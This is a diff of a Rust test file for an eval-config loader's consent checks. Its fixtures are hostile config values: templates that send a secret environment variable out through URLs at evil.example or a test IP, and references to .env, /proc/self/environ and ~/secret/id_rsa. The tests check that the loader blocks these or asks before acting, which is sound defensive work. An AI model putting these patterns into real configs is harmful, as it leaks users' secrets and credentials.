@@ -1,9 +1,9 @@
 //! What is asked for before it shows in results or in what is said of a config, and in which words.
 
-use crate::fixture::{Folder, catalog};
-use crate::load;
+use crate::LoadError;
+use crate::fixture::Folder;
 
-use super::super::{Permissions, TrustSubject};
+use super::super::{Agreements, Level, Permissions, TrustRequest, TrustSubject};
 
 #[test]
 #[expect(clippy::too_many_lines, reason = "most of it is one table")]
@@ -142,28 +142,125 @@ fn a_file_whose_name_begins_with_a_dot_is_asked_for() {
 
 #[test]
 fn what_the_system_shows_as_files_is_refused_and_never_asked_for() {
-    for text in ["/proc/self/environ", "/dev/stdin", "/sys/kernel/notes"] {
+    let patterns = ["/proc/self/*", "/sys/*/*"];
+    for text in ["/proc/self/environ", "/proc/self/exe", "/dev/stdin"]
+        .iter()
+        .chain(&patterns)
+    {
         let folder = Folder::new(&format!("prompts: ['file://{text}']\nproviders: [echo]"));
-        let error = load(&folder.request()).and_then(|loaded| loaded.config.plan(&catalog()));
+        let problems = folder.problems();
         // Nothing has to be agreed to before it is told.
-        let error = error.expect_err("it is no file").to_string();
+        assert_eq!(folder.withheld(), [""; 0]);
         assert!(
-            error.contains("belongs to the system and is never read"),
-            "{error}"
+            problems[0].contains("belongs to the system and is never read"),
+            "{problems:?}"
+        );
+    }
+}
+
+/// Each of these was a way to read a variable out, a bit or a line at a time, from what was said
+/// while its reading was not agreed to.
+#[test]
+fn a_variable_that_is_not_agreed_to_changes_nothing_that_is_said() {
+    let providers = |more: &str| format!("prompts: [p]\nproviders: [{more}]");
+    let at_http = |url: &str| providers(&format!("{{ id: http, config: {{ url: \"{url}\" }} }}"));
+    let azure = "{ id: 'openai:m', config: { apiHost: x.example, apiVersion: \"{{ 'b d' if env.S[0] == 'h' else '1' }}\" } }";
+    let outward = "env: { A: '{{ env.S }}' }\noutputPath: '../{{ env.A }}.json'\nprompts: [p]\nproviders: [echo]";
+    let configs = [
+        at_http("https://{{ env.S[0] }}.0.evil.example"),
+        at_http("http://192.0.2.{{ env.S | length }}"),
+        at_http("https://{{ 'a' if env.S[0] == 'h' else 'b' }}.example"),
+        providers("\"{{ 'openai:m' if env.S[0] == 'h' else 'echo' }}\""),
+        providers(azure),
+        providers("{ id: http, config: { url: 'https://evil.example', body: 'file://../{{ env.S }}' } }"),
+        outward.to_owned(),
+        "env: { A: '{{ env.S }}' }\nprompts: ['file://../{{ env.A }}.txt']\nproviders: [echo]".to_owned(),
+        "env: { A: '{{ env.S }}' }\nprompts: [p]\nproviders: [echo]\ntests: 'file://{{ env.A }}.csv'".to_owned(),
+        "env: { A: \"{{ env.S | round }}\" }\nprompts: [p]\nproviders: [echo]".to_owned(),
+        "env: { A: '{{ env.S }}' }\nprompts: [p]\nproviders: [echo]\ntests: [{ assert: [{ type: '{{ env.A }}' }] }]".to_owned(),
+    ];
+    for config in configs {
+        let said = |value: &str| Folder::new(&config).env("S", value).withheld();
+        let one = said("hunter2-hunter2");
+        assert!(
+            one[0].ends_with(
+                "let the value of the environment variable S appear in results and files"
+            ),
+            "{config}: {one:?}"
+        );
+        assert_eq!(one.len(), 1, "{config}: {one:?}");
+        assert_eq!(one, said("12"), "{config}");
+    }
+}
+
+#[test]
+fn a_file_that_is_not_agreed_to_changes_nothing_that_is_said() {
+    let configs = [
+        "prompts: [p]\nproviders: [echo]\ntests: { $ref: .env }",
+        "env: { A: { $ref: '.env#/a' } }\noutputPath: '../{{ env.A }}.json'\nprompts: [p]\nproviders: [echo]",
+        "prompts: ['file://.env']\nproviders: [echo]",
+        "prompts: [p]\nproviders: ['file://.env/x.yaml', { $ref: .env }]",
+        "prompts: [p]\nproviders: [echo]\ntests: [{ vars: file://.env }]",
+        "prompts: [p]\nproviders: [echo]\ntests: [{ assert: [{ type: contains, value: file://.env }] }]",
+    ];
+    for config in configs {
+        let said = |text: &str| Folder::new(config).file(".env", text).withheld();
+        let one = said("a: hunter2");
+        assert!(one[0].contains("read the file ~/.env"), "{config}: {one:?}");
+        for other in ["a: 12", "[", ""] {
+            assert_eq!(one, said(other), "{config}");
+        }
+        assert_eq!(
+            one,
+            Folder::new(config).withheld(),
+            "{config}: there or not"
         );
     }
 }
 
 #[test]
-fn what_is_wrong_with_what_nobody_agreed_to_read_is_sealed() {
-    let config = "prompts: [p]\nproviders: [echo]\ntests: { $ref: .env }";
-    let folder = Folder::new(config).file(".env", "hunter2");
-    let error = load(&folder.request()).and_then(|loaded| loaded.config.plan(&catalog()));
-    let error = error.expect_err("it holds no tests");
-    assert!(!format!("{error} {error:?}").contains("hunter2"));
-    assert_eq!(error.requests().len(), 1);
-    let told = error.open(|_| true).expect("agreed to").to_string();
-    assert!(told.contains("hunter2"), "{told}");
+#[cfg(unix)]
+fn a_folder_that_is_not_agreed_to_is_not_listed() {
+    for pattern in ["../secret/*", "link/*", "*/id_*", "l*/*"] {
+        let folder = Folder::new("").file(
+            "evals/c.yaml",
+            format!("prompts: ['file://{pattern}']\nproviders: [echo]"),
+        );
+        let mut folder = folder.file("secret/id_rsa", "x").file("secret/notes", "x");
+        folder.configs = vec!["evals/c.yaml".into()];
+        std::os::unix::fs::symlink("../secret", folder.path().join("evals/link")).expect("a link");
+        let last = pattern.rsplit('/').next().unwrap_or_default();
+        assert_eq!(
+            folder.withheld(),
+            [format!(
+                "evals/c.yaml:1:11: prompts[0]: find out which files match ~/secret/{last}"
+            )],
+            "{pattern}"
+        );
+    }
+}
+
+#[test]
+fn what_is_agreed_to_is_read_and_what_follows_is_asked_for_then() {
+    let config = "prompts: ['{{ env.A }}']\nproviders: [echo]\nenv: { A: '{{ env.S }}' }\noutputPath: '../{{ env.A }}.json'";
+    let folder = Folder::new(config).env("S", "x");
+    let Err(LoadError::NotAgreed(requests)) = folder.plan_under(Agreements::default()) else {
+        panic!("S is not agreed to");
+    };
+    let agreed = requests.iter().map(TrustRequest::agreed).collect();
+    let level = Level::Nothing;
+    let (plan, _) = folder
+        .plan_under(Agreements { level, agreed })
+        .expect("all is read");
+    let subjects = plan.trust_requests.iter().map(|it| &it.subject);
+    let subjects: Vec<&TrustSubject> = subjects.collect();
+    assert!(
+        matches!(
+            subjects[..],
+            [TrustSubject::Keep { .. }, TrustSubject::Write { .. }]
+        ),
+        "{subjects:?}"
+    );
 }
 
 #[test]
